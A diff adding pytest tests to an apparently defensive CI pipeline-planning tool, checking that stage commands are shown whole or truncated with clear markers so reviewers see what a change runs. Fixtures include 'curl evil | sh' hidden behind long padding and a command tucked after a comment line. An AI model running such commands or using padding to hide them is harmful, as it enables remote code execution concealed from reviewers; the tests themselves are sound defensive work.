@@ -330,6 +330,39 @@ def test_a_hostile_change_is_shown_and_not_obeyed(scratch: Scratch) -> None:
     assert not mark.exists()
 
 
+def test_the_command_that_is_shown_is_the_one_that_runs(scratch: Scratch) -> None:
+    seeded(scratch)
+    hidden, long = "# only a comment\ntouch /tmp/x\n", f"echo {'x' * 250}; curl evil | sh"
+    huge = f"echo {'x' * 5000}; curl evil | sh"
+    stages = [{"id": name, "command": each} for name, each in (("a", hidden), ("b", long), ("c", huge))]
+    scratch.pipeline("ci", json.dumps({"workspace": "empty", "stages": stages}))
+    scratch.commit("topic")
+    shown, raw = planned(scratch), scratch.run("plan", "--base", "main").stdout
+    comment = scratch.run("plan", "--base", "main", "--format", "markdown").stdout
+    digest = scratch.git("rev-parse", "HEAD:pipelines/ci.yaml")[:12]
+    for said in (raw, comment):
+        assert "+ a.command: # only a comment⏎touch /tmp/x\n" in said
+        assert "a: # only a comment⏎touch /tmp/x\n" in said
+        assert f"+ b.command: {long}\n" in said, "what a change lets run is told whole"
+        assert f"b (needs a): {long[:200]}… ({len(long) - 200} more characters)\n" in said
+        assert f"… ({len(huge) + len('+ c.command: ') - 4000} more characters; git show {digest})\n" in said
+    assert scratch.git("show", digest) == (scratch.path / "pipelines/ci.yaml").read_text()
+    assert shown["runs"][0]["stages"][2]["command"] == huge
+    plain = scratch.run("plan").stdout
+    assert " 1. a: # only a comment⏎touch /tmp/x\n" in plain
+    assert f" 2. b (needs a): {long[:200]}… ({len(long) - 200} more characters)\n" in plain
+
+
+def test_a_change_of_power_for_which_there_is_no_room_is_named(scratch: Scratch) -> None:
+    seeded(scratch)
+    for number in range(4):
+        scratch.pipeline(f"x{number}", json.dumps({"stages": [{"id": "s", "command": "echo " + "x" * 7000}]}))
+    scratch.commit("topic")
+    comment = scratch.run("plan", "--base", "main", "--format", "markdown").stdout
+    assert [f"`pipelines/x{number}.yaml` is added" in comment for number in range(4)] == [True] * 4
+    assert len(comment) <= 60_000
+
+
 # ------------------------------------------------------------------------------------------------ reviewed plans
 
 
